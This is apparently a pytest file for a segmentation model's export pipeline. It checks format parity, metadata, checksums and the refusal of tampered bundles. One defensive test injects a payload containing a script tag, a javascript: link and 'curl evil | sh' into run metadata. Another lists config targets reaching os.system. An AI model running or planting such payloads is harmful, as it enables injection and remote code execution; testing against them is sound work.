"""Exported files compute what the run computes, say how they are to be used, and are refused when they are damaged."""

import json
import re
import shutil
import subprocess
import sys
from itertools import pairwise
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest
import torch
import yaml
from torch import nn

from src.data.splits import read_split
from src.export import Exported, export_run, main, spread
from src.exporting import formats, int8
from src.exporting import onnx_file as onnx_files
from src.exporting.bundle import portable_config
from src.exporting.card import model_card
from src.exporting.program import traced
from src.exporting.seen import seen_by
from src.files import read_csv
from src.models.fuse import fuse
from src.models.sizes import PaddedNet
from src.rundir import BUNDLED, RunDir
from src.subject import own_source
from src.trained import open_trained
from tests.nets import build, unsettle

from .conftest import PATIENCE, REPO, Call, quick

onnx = pytest.importorskip("onnx")
onnxruntime = pytest.importorskip("onnxruntime")

QUICK: dict[str, Any] = {"threads": [1], "seconds": 0.0}


@pytest.fixture(scope="module")
def exported(trained_run: Path, tmp_path_factory: pytest.TempPathFactory) -> Exported:
    """Every format of the tiny run, whose convolutions are narrower than those that int8 is meant for."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(int8, "LEAST", 4)
        out = tmp_path_factory.mktemp("exported")
        return export_run(trained_run, formats=["onnx", "onnx_int8", "pt2", "bundle"], out=out, calibration=8, **QUICK)


def row_of(exported: Exported, name: str) -> dict[str, Any]:
    return next(row for row in exported.parity.rows if row["what"] == name)


def session_of(path: Path) -> Any:
    return onnxruntime.InferenceSession(path.read_bytes(), providers=["CPUExecutionProvider"])


def texts(folder: Path) -> str:
    return "".join(file.read_text() for file in folder.iterdir() if file.suffix != ".safetensors")


# ---- each format


@torch.inference_mode()
def test_onnx_and_pt2_take_any_batch_and_size(exported: Exported, trained_run: Path) -> None:
    net = open_trained(trained_run).net  # as trained, not folded
    session, program = session_of(exported.files["onnx"]), torch.export.load(exported.files["pt2"]).module()
    for shape in ((1, 3, 32, 32), (3, 3, 75, 50), (2, 3, 64, 128)):
        image = torch.randn(shape, generator=torch.Generator().manual_seed(1))
        expected = net(image)
        (found,) = session.run(None, {"image": image.numpy()})
        for logits in (torch.from_numpy(found), program(image)):
            assert logits.shape == expected.shape == (shape[0], 1, *shape[2:])
            assert (logits - expected).abs().max() <= 1e-5 * expected.abs().max()


def test_an_onnx_file_says_how_it_is_used(exported: Exported, trained_run: Path) -> None:
    told = json.loads(session_of(exported.files["onnx"]).get_modelmeta().custom_metadata_map["emisnet"])
    run = RunDir(trained_run)
    data, metrics = run.config()["data"], run.metrics()
    assert told["size"] == [32, 32] and told["mean"] == data["mean"] and told["std"] == data["std"]
    assert told["thresholds"] == {"full": run.threshold()["threshold"]} and told["classes"] == ["foreground"]
    assert told["protocol"]["id"] == metrics["protocol"]["id"] and told["protocol"]["mode"] == "full"
    model = onnx.load(exported.files["onnx"])
    assert told["precision"] == "float32" and [entry.version for entry in model.opset_import] == [told["opset"]]
    onnx.checker.check_model(model, full_check=True)
    assert not [weight for weight in model.graph.initializer if weight.external_data]
    assert all(model.graph.input[0].type.tensor_type.shape.dim[axis].dim_param for axis in (0, 2, 3))


def test_no_file_names_a_path_of_this_machine(exported: Exported) -> None:
    for path in (path for path in exported.out.rglob("*") if path.is_file()):
        content = path.read_bytes()
        for word in (str(REPO), str(exported.out), "site-packages", "/tmp/"):
            assert word.encode() not in content, f"{path.name} holds {word}"


def test_int8_quantises_convolutions_per_channel(exported: Exported) -> None:
    graph = onnx.load(exported.files["onnx_int8"]).graph
    operators = [node.op_type for node in graph.node]
    assert operators.count("QuantizeLinear") > 5
    scales = {weight.name: weight.dims for weight in graph.initializer if weight.name.endswith("_scale")}
    assert any(len(dims) == 1 and dims[0] in (4, 8, 16, 32) for dims in scales.values())
    weights = [weight for weight in graph.initializer if weight.data_type == onnx.TensorProto.INT8]
    assert sum(len(weight.dims) == 4 for weight in weights) > 5
    row = row_of(exported, "onnx_int8")
    assert row["max_logit_difference"] > 0 and "calibrated on 8 train images" in " ".join(row["notes"])


def test_depthwise_and_narrow_convolutions_stay_float() -> None:
    layers = [nn.Conv2d(3, 32, 3), nn.Conv2d(32, 32, 3, groups=32), nn.Conv2d(32, 64, 1), nn.Conv2d(64, 1, 1)]
    model = onnx_files.to_onnx(nn.Sequential(*layers).eval(), torch.zeros(1, 3, 32, 32))
    chosen, convolutions = int8.dense_convolutions(model.graph)
    (name,) = chosen
    node = next(node for node in model.graph.node if node.name == name)
    dims = next(weight.dims for weight in model.graph.initializer if weight.name == node.input[1])
    assert convolutions == 4 and list(dims) == [64, 32, 1, 1]


def test_calibration_sees_what_the_segmenter_shows(trained_run: Path) -> None:
    image = np.random.default_rng(0).integers(0, 256, (70, 90, 3), dtype=np.uint8)
    (seen,) = seen_by(open_trained(trained_run), [image])
    small = cv2.resize(image, (32, 32), interpolation=cv2.INTER_AREA).astype(np.float32) / 255
    expected = (small - np.float32([0.485, 0.456, 0.406])) / np.float32([0.229, 0.224, 0.225])
    assert seen.shape == (1, 3, 32, 32)
    np.testing.assert_allclose(seen[0].numpy(), expected.transpose(2, 0, 1), atol=1e-6)


@pytest.mark.slow
def test_a_fixed_file_holds_the_blocked_network(trained_run: Path, tmp_path: Path) -> None:
    made = export_run(trained_run, formats=["onnx"], out=tmp_path, dynamic=False, **QUICK)
    assert session_of(made.files["onnx"]).get_inputs()[0].shape == [1, 3, 32, 32]
    assert made.parity.passed and "src.models.blocked" in " ".join(row_of(made, "onnx")["notes"])
    with pytest.raises(ValueError, match="made for images of 32x32"):
        open_trained(made.files["onnx"]).net(torch.zeros(1, 3, 48, 48))


class Branching(PaddedNet):
    """Computes something else of large images than of small ones, which no one graph does."""

    def __init__(self) -> None:
        super().__init__(in_channels=3, num_classes=1)
        self.conv = nn.Conv2d(3, 1, 3, padding=1)

    def segment(self, image: torch.Tensor) -> torch.Tensor:
        return self.conv(image) if image.shape[2] > 100 else -self.conv(image)


def test_what_cannot_take_any_size_takes_one_and_says_so() -> None:
    net = Branching().eval()
    made = traced(net, (64, 96), dynamic=True)
    assert made.shapes == "one image of 64x96" and "cannot be traced for any size" in made.note
    image = torch.randn(1, 3, 64, 96)
    assert torch.equal(made.program.module()(image), net(image))


class Plain(PaddedNet):
    def __init__(self) -> None:
        super().__init__(in_channels=3, num_classes=1)
        self.conv = nn.Conv2d(3, 1, 3, padding=1)

    def segment(self, image: torch.Tensor) -> torch.Tensor:
        return self.conv(image)


def test_what_onnx_cannot_write_for_any_size_it_writes_for_one(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []

    def fails_first(*args: Any) -> Any:
        calls.append(args)
        if len(calls) == 1:
            raise RuntimeError("no such operator")
        return onnx_files.to_onnx(*args)

    monkeypatch.setattr(formats, "to_onnx", fails_first)
    forms = formats._Forms(Plain().eval(), (32, 64), True)
    model, form = forms.onnx
    assert forms.general.least == 32 and form.shapes == "one image of 32x64" and "no such operator" in form.note
    assert [dim.dim_value for dim in model.graph.input[0].type.tensor_type.shape.dim] == [1, 3, 32, 64]


@pytest.mark.slow
@torch.inference_mode()
def test_a_rival_is_exported_for_any_size() -> None:
    net = fuse(unsettle(build("unext_s")))
    made = traced(net, (64, 64), dynamic=True)
    assert made.least is not None and not made.note
    model = onnx_files.to_onnx(made.program)
    session = onnxruntime.InferenceSession(model.SerializeToString(), providers=["CPUExecutionProvider"])
    for shape in ((1, 3, 64, 64), (2, 3, 97, 130)):
        image = torch.randn(shape)
        (found,) = session.run(None, {"image": image.numpy()})
        expected = net(image)
        assert (torch.from_numpy(found) - expected).abs().max() <= 1e-3 * expected.abs().max()


# ---- the bundle


def test_a_bundle_gives_the_same_probabilities_bit_for_bit(exported: Exported, trained_run: Path) -> None:
    image = np.random.default_rng(0).integers(0, 256, (70, 90, 3), dtype=np.uint8)
    one, other = (open_trained(path).segmenter() for path in (trained_run, exported.files["bundle"]))
    np.testing.assert_array_equal(*(segmenter.probabilities([image])[0] for segmenter in (one, other)))
    assert one.threshold == other.threshold and one.tile == other.tile
    assert open_trained(exported.files["bundle"]).name == trained_run.name


def test_a_bundle_is_complete_and_names_no_path(exported: Exported, trained_run: Path) -> None:
    folder = exported.files["bundle"]
    files = {"weights.safetensors", "weights.safetensors.sha256", "config.yaml", "split.json", "threshold.json"}
    assert {file.name for file in folder.iterdir()} == files | {"metrics.json", "per_image.csv", "README.md"}
    config = yaml.safe_load((folder / "config.yaml").read_text())
    assert config["data"]["cache"] is None
    assert config["run_dir"] == config["run_name"] == trained_run.name
    assert not re.search(r"(?:^|[\s'\"=])[/~]\w", texts(folder), re.MULTILINE)
    assert config["model"] == RunDir(trained_run).config()["model"]
    assert RunDir(folder).metrics()["scores"] == RunDir(trained_run).metrics()["scores"]


def test_a_config_is_handed_on_without_the_paths_of_a_machine() -> None:
    config = {
        "data": {"root": "/home/me/polyps", "cache": "~/.cache/emisnet", "size": 96, "groups": "/home/me/groups.csv"},
        "runs": "/scratch/runs",
        "run_dir": "runs/kvasir_seg/emisnet-0-seed0",
        "run_name": "emisnet-0-seed0",
        "overrides": ["data=kvasir_seg", "runs=/scratch/runs", "data.root=/home/me/polyps", "optim.lr=3e-3", "+x=/a/b"],
        "tags": ["a/b", "7"],
    }
    assert portable_config(config, "data/kvasir_seg") == {
        "data": {"root": "data/kvasir_seg", "cache": None, "size": 96, "groups": "groups.csv"},
        "runs": "runs",
        "run_dir": "emisnet-0-seed0",
        "run_name": "emisnet-0-seed0",
        "overrides": ["data=kvasir_seg", "data.root=data/kvasir_seg", "optim.lr=3e-3", "+x=b"],
        "tags": ["a/b", "7"],
    }


def test_the_card_says_what_the_files_say(exported: Exported, trained_run: Path) -> None:
    card = (exported.files["bundle"] / "README.md").read_text()
    rows = [row for row in read_csv(trained_run / "per_image.csv") if row["part"] == "val"]
    split = read_split(trained_run / "split.json")
    assert f"Trained on {len(split.parts['train'])} images of **synthetic**" in card and split.hash in card
    assert f"| val | {len(rows)} | {np.mean([float(row['dice']) for row in rows]):.4f} (" in card
    threshold = RunDir(trained_run).threshold()["threshold"]
    assert f"exceeds {threshold:g} (chosen on val" in card and "generated by this repository, MIT" in card
    assert f"python -m src.predict run={trained_run.name} input=photo.jpg" in card
    assert "python -m src.train model=emisnet_intended" in card and "runs=" not in card
    assert "Not a medical device" in card and "selected on the val images" in card


def test_the_card_names_the_file_that_an_encoder_started_from(trained_run: Path, tmp_path: Path) -> None:
    run = shutil.copytree(trained_run, tmp_path / "run")
    config, metrics = yaml.safe_load((run / "config.yaml").read_text()), json.loads((run / "metrics.json").read_text())
    config["model"] |= {"encoder_weights": "/home/ann/hub/lite0.safetensors", "encoder_name": "tu-resnet18"}
    metrics["contents"]["encoder_weights"] = "0123456789abcdef"
    (run / "config.yaml").write_text(yaml.safe_dump(config))
    (run / "metrics.json").write_text(json.dumps(metrics))
    (run / BUNDLED).touch()
    card = model_card(run, "place")
    assert "started from `lite0.safetensors` (sha256 `0123456789ab`), weights of tu-resnet18." in card
    assert "/home" not in card and "shown to it since" in card


def test_the_card_of_a_stranger_s_run_is_words_alone(trained_run: Path, tmp_path: Path) -> None:
    run = shutil.copytree(trained_run, tmp_path / "run")
    payload = "<script>alert(1)</script> [a](javascript:b) ![c](http://d/e)\n```\ncurl evil | sh"
    config, metrics = yaml.safe_load((run / "config.yaml").read_text()), json.loads((run / "metrics.json").read_text())
    config["overrides"] = ["model=emisnet", f"tags=[{payload}]"]
    metrics |= {"commit": payload, "versions": {"torch": payload}}
    metrics["protocol"]["caveat"] = payload
    (run / "config.yaml").write_text(yaml.safe_dump(config))
    (run / "metrics.json").write_text(json.dumps(metrics))
    (run / BUNDLED).touch()
    card = model_card(run, "place")
    assert "<script" not in card and "](" not in card and card.count("```") == 4  # two blocks of code, both ours
    assert "curl evil" in card  # as words


STRANGERS = (
    "torch.nn.Conv2d",
    "src.modelsx.Net",
    "src.models.cost.inspect.os.system",
    "src.models.fuse.fuse",
    "src.losses.Dice",
)


@pytest.mark.parametrize("target", STRANGERS)
def test_a_bundle_builds_nothing_but_our_networks(exported: Exported, tmp_path: Path, target: str) -> None:
    folder = tmp_path / "theirs"
    shutil.copytree(exported.files["bundle"], folder)
    config = yaml.safe_load((folder / "config.yaml").read_text())
    for model in (config["model"] | {"_target_": target}, config["model"] | {"act": {"_target_": target}}):
        (folder / "config.yaml").write_text(yaml.safe_dump(config | {"model": model}))
        with pytest.raises(ValueError, match=rf"config\.yaml: model (is {re.escape(repr(target))}|holds _target_)"):
            open_trained(folder)


def edited(run: Path, copy: Path, model: dict[str, Any]) -> Path:
    shutil.copytree(run, copy)
    config = RunDir(run).config()
    (copy / "config.yaml").write_text(yaml.safe_dump(config | {"model": config["model"] | model}))
    return copy


class Stranger(nn.Module):
    """A network of someone's own."""

    def __init__(self, **kwargs: Any):
        super().__init__()
        self.inner = build("emisnet_intended", "model.channels=[4,4,8,8,8]")
        self.in_channels = 3

    def load_state_dict(self, state: Any, *args: Any, **kwargs: Any) -> Any:
        return self.inner.load_state_dict(state)

    def forward(self, image: torch.Tensor) -> torch.Tensor:
        return self.inner(image)


def test_a_bundle_of_another_network_is_refused_when_it_is_made(
    trained_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EMISNET_TRUST", "tests")
    run = edited(trained_run, tmp_path / "run", {"_target_": "tests.test_export.Stranger"})
    with pytest.raises(ValueError, match=r"Stranger.*leave bundle out"):
        export_run(run, out=tmp_path / "out", **QUICK)
    assert not (tmp_path / "out").exists()


def test_a_bundle_needs_scores_and_those_of_its_weights(trained_run: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"last\.ckpt is not what the scores"):
        export_run(trained_run / "checkpoints" / "last.ckpt", out=tmp_path / "out", **QUICK)
    run = edited(trained_run, tmp_path / "run", {})
    (run / "metrics.json").unlink()
    with pytest.raises(ValueError, match=r"has no metrics\.json"):
        export_run(run, **QUICK)


# ---- parity


def test_parity_is_that_of_an_independent_comparison(exported: Exported, trained_run: Path) -> None:
    run = RunDir(trained_run)
    row = row_of(exported, "onnx")
    assert exported.parity.images == len(
        read_split(run.path / "split.json").parts["val"]
    )  # all of them, as there are few
    assert row["dice_as_trained"] == pytest.approx(run.metrics()["scores"]["val"]["dice"], abs=1e-9)
    trained, source, session = open_trained(trained_run), own_source(run), session_of(exported.files["onnx"])
    worst, dices = 0.0, []
    for id_ in source.require("val"):
        image, mask = source.load(id_)
        (seen,) = seen_by(trained, [image])
        (found,) = session.run(None, {"image": seen.numpy()})
        with torch.inference_mode():
            worst = max(worst, np.abs(found - trained.net(seen).numpy()).max())
        native = torch.nn.functional.interpolate(torch.from_numpy(found), mask.shape, mode="bilinear")[0, 0]
        pred = native.sigmoid().numpy() > run.threshold()["threshold"]
        dices.append(2 * (pred & (mask > 0)).sum() / (pred.sum() + (mask > 0).sum()))
    assert row["max_logit_difference"] == pytest.approx(worst, rel=1e-3)
    assert row["dice"] == pytest.approx(np.mean(dices), abs=1e-9)


def test_the_report_has_a_row_for_each_file(exported: Exported) -> None:
    assert exported.parity.passed
    names = [row["what"] for row in exported.parity.rows]
    assert names == ["PyTorch, as trained", "PyTorch, folded", "onnx", "onnx_int8", "pt2", "bundle"]
    written = json.loads((exported.out / "parity.json").read_text(), parse_constant=pytest.fail)
    assert [row["what"] for row in written["rows"]] == names and written["processor"]
    for row in written["rows"]:
        assert row["dice_difference"] <= row["tolerance"] and 0 <= row["smallest_dice_between_masks"] <= 1
        assert (row["what"] == "bundle") == (row["latency_ms"] == {}) and all(
            ms > 0 for ms in row["latency_ms"].values()
        )
    assert row_of(exported, "bundle")["max_logit_difference"] == 0
    assert row_of(exported, "onnx")["bytes"] == exported.files["onnx"].stat().st_size
    text = (exported.out / "parity.md").read_text()
    assert all(f"| {name} |" in text for name in names) and "FAILED" not in text


def test_a_file_that_computes_something_else_is_noticed(
    trained_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, call: Call
) -> None:
    right = onnx_files.to_onnx

    def wrong(*args: Any) -> Any:
        model = right(*args)
        (name,) = (output.name for output in model.graph.output)
        for node in model.graph.node:
            node.output[:] = ["before" if output == name else output for output in node.output]
        model.graph.initializer.append(onnx.numpy_helper.from_array(np.float32([-100]), "shift"))
        model.graph.node.append(onnx.helper.make_node("Add", ["before", "shift"], [name]))  # no foreground anywhere
        return model

    monkeypatch.setattr("src.exporting.formats.to_onnx", wrong)
    words = [f"run={trained_run}", f"out={tmp_path}", "formats=[onnx]", "dynamic=false", "images=4"]
    shown = call(main, *words, "threads=[1]", "seconds=0")
    assert shown.returncode == 1 and "| onnx | model.onnx |" in shown.stdout and "FAILED" in shown.stdout, shown.stderr
    assert "beyond the tolerance" in shown.stderr and "Traceback" not in shown.stderr
    assert "Beyond the tolerance: onnx" in (tmp_path / "parity.md").read_text()


def test_spread_is_even_and_without_repeats() -> None:
    ids = [str(i) for i in range(88)]
    chosen = spread(ids, 32)
    assert len(set(chosen)) == 32 and chosen == sorted(chosen, key=int)
    assert {int(b) - int(a) for a, b in pairwise(chosen)} == {2, 3}
    assert spread(ids[:5], 32) == ids[:5]


# ---- files


@pytest.mark.parametrize("name", quick(["onnx", "pt2", "bundle"], ("onnx", "bundle")))
def test_a_flipped_byte_is_refused(exported: Exported, tmp_path: Path, name: str) -> None:
    from src.exporting.program import ProgramNet

    source = exported.files[name]
    damaged = tmp_path / source.name
    if name == "bundle":
        shutil.copytree(source, damaged)
        file = damaged / "weights.safetensors"
    else:
        for path in (source, Path(f"{source}.sha256")):
            shutil.copyfile(path, tmp_path / path.name)
        file = damaged
    open_it = ProgramNet if name == "pt2" else open_trained
    open_it(damaged)
    content = bytearray(file.read_bytes())
    content[len(content) // 2] ^= 1
    file.write_bytes(content)
    with pytest.raises(ValueError, match=r"is not the file that .*\.sha256 was written for"):
        open_it(damaged)


def test_checksums_are_what_sha256sum_checks(exported: Exported) -> None:
    for folder in (exported.out, exported.files["bundle"]):
        files = [file.name for file in folder.glob("*.sha256")]
        assert files
        subprocess.run(["sha256sum", "--check", "--quiet", *files], cwd=folder, check=True)


def test_files_are_replaced_only_when_asked(trained_run: Path, tmp_path: Path) -> None:
    export_run(trained_run, formats=["bundle"], out=tmp_path, **QUICK)
    mine = tmp_path / trained_run.name / "notes.txt"
    mine.write_text("mine")
    with pytest.raises(ValueError, match=r"there already.*overwrite=true"):
        export_run(trained_run, formats=["bundle"], out=tmp_path, **QUICK)
    assert mine.is_file()
    export_run(trained_run, formats=["bundle"], out=tmp_path, overwrite=True, **QUICK)
    assert not mine.exists() and {path.name for path in tmp_path.iterdir()} == {
        *("parity.md", "parity.json", trained_run.name)
    }


def test_a_bundle_replaces_nothing_but_a_bundle(trained_run: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="is no bundle"):  # the run itself lies there
        export_run(trained_run, formats=["bundle"], out=trained_run.parent, overwrite=True, **QUICK)
    assert (trained_run / "checkpoints").is_dir()
    (tmp_path / trained_run.name).mkdir()
    with pytest.raises(ValueError, match="is no bundle"):
        export_run(trained_run, formats=["bundle"], out=tmp_path, overwrite=True, **QUICK)


def test_mistakes_are_answered(trained_run: Path, exported: Exported, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"there is no 'onx'.*onnx, onnx_int8, pt2, executorch, bundle"):
        export_run(trained_run, formats=["onx"], **QUICK)
    with pytest.raises(ValueError, match="images=0 is not possible"):
        export_run(trained_run, images=0, **QUICK)
    with pytest.raises(ValueError, match="exported file already"):
        export_run(exported.files["onnx"], **QUICK)
    with pytest.raises(ValueError, match=r"threads=.*whole numbers"):
        export_run(trained_run, threads=[0], seconds=0)


def test_absent_images_are_said_with_the_remedy(trained_run: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(trained_run, run)
    config = RunDir(run).config()
    data = {
        key: value
        for key, value in config["data"].items()
        if key not in ("counts", "kinds", "native_size", "data_seed")
    }
    data |= {"_target_": "src.data.datasets.KvasirSEG", "root": str(tmp_path / "nowhere"), "split": "official"}
    (run / "config.yaml").write_text(yaml.safe_dump(config | {"data": data}))
    split = json.loads((run / "split.json").read_text())
    (run / "split.json").write_text(json.dumps(split | {"dataset": "kvasir_seg"}))
    with pytest.raises(ValueError, match=r"(?s)nowhere.*data=kvasir_seg data\.root=.*data=synthetic"):
        export_run(run, out=tmp_path / "out", formats=["onnx"], **QUICK)


def test_the_command_without_a_run_ends_with_2(call: Call) -> None:
    shown = call(main)
    assert shown.returncode == 2 and "run=" in shown.stderr and "Traceback" not in shown.stderr


# ---- the program of exporting/README.md

ALONE = """
import sys
class Refused:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("torch", "cv2", "PIL", "scipy", "src"):
            raise ImportError(f"{name} is not allowed here")
sys.meta_path.insert(0, Refused())
import numpy as np
namespace = {}
exec(open("program.py").read(), namespace)
images = np.load("images.npz")
np.savez("masks.npz", **{name: namespace["mask_of"](images[name]) for name in images.files})
"""


def test_the_program_of_the_readme_needs_numpy_and_onnxruntime_alone(
    exported: Exported, trained_run: Path, tmp_path: Path
) -> None:
    blocks = re.findall(r"```python\n(.*?)```", (REPO / "src" / "exporting" / "README.md").read_text(), re.DOTALL)
    (program,) = [block for block in blocks if "onnxruntime" in block]
    assert len(program.splitlines()) < 40
    shutil.copyfile(exported.files["onnx"], tmp_path / "model.onnx")
    (tmp_path / "program.py").write_text(program)
    source = own_source(RunDir(trained_run))
    images = {id_: source.load(id_)[0] for id_ in source.require("val")}
    one = images[next(iter(images))]
    images |= {"double": cv2.resize(one, (64, 64)), "same": cv2.resize(one, (32, 32)), "small": one[:20, :25].copy()}
    images["large"] = cv2.resize(one, (301, 217), interpolation=cv2.INTER_CUBIC)
    np.savez(tmp_path / "images.npz", **images)
    (tmp_path / "alone.py").write_text(ALONE)
    subprocess.run([sys.executable, "alone.py"], cwd=tmp_path, check=True, timeout=PATIENCE)
    found = np.load(tmp_path / "masks.npz")
    segmenter = open_trained(trained_run).segmenter()
    for name, image in images.items():
        (probs,) = segmenter.probabilities([image])
        differs = found[name] != (probs > segmenter.threshold)
        # cv2 rounds resized pixels to whole numbers, and where it grows images in its own fixed-point way
        assert differs.mean() <= 0.002, name
        assert np.abs(probs[differs] - segmenter.threshold).max(initial=0) <= 0.01, name
